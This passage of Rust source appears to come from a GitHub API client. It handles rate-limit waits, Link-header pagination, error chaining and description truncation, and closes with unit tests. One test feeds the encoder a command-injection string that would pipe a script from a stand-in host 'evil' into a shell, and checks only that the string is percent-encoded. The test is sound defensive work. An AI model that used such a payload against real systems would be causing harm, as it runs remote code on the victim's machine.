/// or until `x-ratelimit-reset` when `x-ratelimit-remaining` is 0.
/// How long `reply` asks us to wait before calling again, if it is a rate
/// limit: its headers say (see [`rate_limit_wait`]), or a 403/429 whose
/// message is GitHub's secondary rate limit, which may come without
/// them: GitHub asks for at least a minute then.
fn limit_wait(reply: &Reply, now: SystemTime) -> Option<Duration> {
    if !matches!(reply.status.as_u16(), 403 | 429) {
        return None;
    }
    rate_limit_wait(&reply.headers, now).or_else(|| {
        reply
            .message()
            .to_ascii_lowercase()
            .contains("secondary rate limit")
            .then_some(SECONDARY_LIMIT_WAIT)
    })
}

/// The wait after a secondary rate limit that names none.
const SECONDARY_LIMIT_WAIT: Duration = Duration::from_secs(60);

fn rate_limit_wait(headers: &HeaderMap, now: SystemTime) -> Option<Duration> {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::trim)
    };
    if let Some(secs) = header("retry-after").and_then(|v| v.parse::<u64>().ok()) {
        return Some(Duration::from_secs(secs));
    }
    if header("x-ratelimit-remaining") == Some("0") {
        let reset = header("x-ratelimit-reset").and_then(|v| v.parse::<u64>().ok())?;
        let now = now.duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
        return Some(Duration::from_secs(reset.saturating_sub(now).max(1)));
    }
    None
}

/// The `rel="next"` URL of a `Link` header.
fn next_link(headers: &HeaderMap) -> Option<String> {
    for value in headers.get_all(http::header::LINK) {
        let Ok(value) = value.to_str() else { continue };
        let mut rest = value;
        while let Some(start) = rest.find('<') {
            let after = &rest[start + 1..];
            let end = after.find('>')?;
            let url = &after[..end];
            let params_end = after[end..].find('<').map_or(after.len(), |i| end + i);
            let params = after[end + 1..params_end].trim_end_matches([',', ' ', '\t']);
            let is_next = params.split(';').any(|p| {
                let p = p.trim();
                p.strip_prefix("rel=").is_some_and(|rels| {
                    rels.trim_matches('"')
                        .split_ascii_whitespace()
                        .any(|r| r == "next")
                })
            });
            if is_next {
                return Some(url.to_string());
            }
            rest = &after[params_end..];
        }
    }
    None
}

/// An error with its sources, for one log line.
fn error_chain(e: &dyn std::error::Error) -> String {
    let mut message = e.to_string();
    let mut source = e.source();
    while let Some(s) = source {
        let s_text = s.to_string();
        if !message.contains(&s_text) {
            message.push_str(": ");
            message.push_str(&s_text);
        }
        source = s.source();
    }
    message
}

fn truncate_description(description: &str) -> String {
    if description.chars().count() <= MAX_DESCRIPTION_CHARS {
        return description.to_string();
    }
    let mut out: String = description
        .chars()
        .take(MAX_DESCRIPTION_CHARS - 1)
        .collect();
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn next_links_are_found_among_others() {
        let mut h = HeaderMap::new();
        h.insert(
            http::header::LINK,
            "<https://api.github.com/repositories/1/pulls?page=1>; rel=\"prev\", \
             <https://api.github.com/repositories/1/pulls?page=3>; rel=\"next\", \
             <https://api.github.com/repositories/1/pulls?page=5>; rel=\"last\""
                .parse()
                .unwrap(),
        );
        assert_eq!(
            next_link(&h).as_deref(),
            Some("https://api.github.com/repositories/1/pulls?page=3")
        );
        h.insert(
            http::header::LINK,
            "<https://x/?page=1>; rel=\"first\"".parse().unwrap(),
        );
        assert_eq!(next_link(&h), None);
        h.insert(http::header::LINK, "garbage <".parse().unwrap());
        assert_eq!(next_link(&h), None);
    }

    #[test]
    fn branch_names_stay_one_segment() {
        assert_eq!(enc("feature/x#1"), "feature%2Fx%231");
        assert_eq!(
            enc("$(curl${IFS}evil|sh)"),
            "%24%28curl%24%7BIFS%7Devil%7Csh%29"
        );
        assert_eq!(enc("main"), "main");
    }

    #[test]
    fn rate_limit_waits() {
        let now = UNIX_EPOCH + Duration::from_secs(1000);
        let mut h = HeaderMap::new();
        assert_eq!(rate_limit_wait(&h, now), None);
        h.insert("x-ratelimit-remaining", "0".parse().unwrap());
        h.insert("x-ratelimit-reset", "1030".parse().unwrap());
        assert_eq!(rate_limit_wait(&h, now), Some(Duration::from_secs(30)));
        h.insert("retry-after", "2".parse().unwrap());
        assert_eq!(rate_limit_wait(&h, now), Some(Duration::from_secs(2)));
    }

    /// GitHub's secondary rate limit may come as a bare 403 (no headers):
    /// its message says so, and it asks for a minute. Any other 403 is a
    /// refusal, not a wait.
    #[test]
    fn a_secondary_rate_limit_without_headers_is_a_wait_of_a_minute() {
        let now = UNIX_EPOCH + Duration::from_secs(1000);
        let reply = |status: u16, message: &str| Reply {
            status: StatusCode::from_u16(status).unwrap(),
            headers: HeaderMap::new(),
            body: Bytes::from(serde_json::json!({ "message": message }).to_string()),
        };
        let secondary = "You have exceeded a secondary rate limit. Please wait a few minutes before you try again.";
        for status in [403, 429] {
            assert_eq!(
                limit_wait(&reply(status, secondary), now),
                Some(SECONDARY_LIMIT_WAIT)
            );
        }
        assert_eq!(
            limit_wait(&reply(403, "Resource not accessible by integration"), now),
            None
        );
        assert_eq!(limit_wait(&reply(422, secondary), now), None);
        let mut with_header = reply(403, secondary);
        with_header
            .headers
            .insert("retry-after", "5".parse().unwrap());
        assert_eq!(limit_wait(&with_header, now), Some(Duration::from_secs(5)));
        assert!(SECONDARY_LIMIT_WAIT <= MAX_WAIT, "waited for, not given up");
    }

    #[test]
    fn backoff_doubles_and_is_capped() {
        let b = Duration::from_millis(500);
        assert_eq!(backoff(b, 0), b);
        assert_eq!(backoff(b, 2), Duration::from_secs(2));
        assert_eq!(backoff(b, 40), MAX_WAIT);
    }

    #[test]
    fn descriptions_are_cut_to_140_chars() {
        assert_eq!(truncate_description("ok"), "ok");
        let long = "é".repeat(300);
        let cut = truncate_description(&long);
        assert_eq!(cut.chars().count(), 140);
        assert!(cut.ends_with('…'));
    }
}
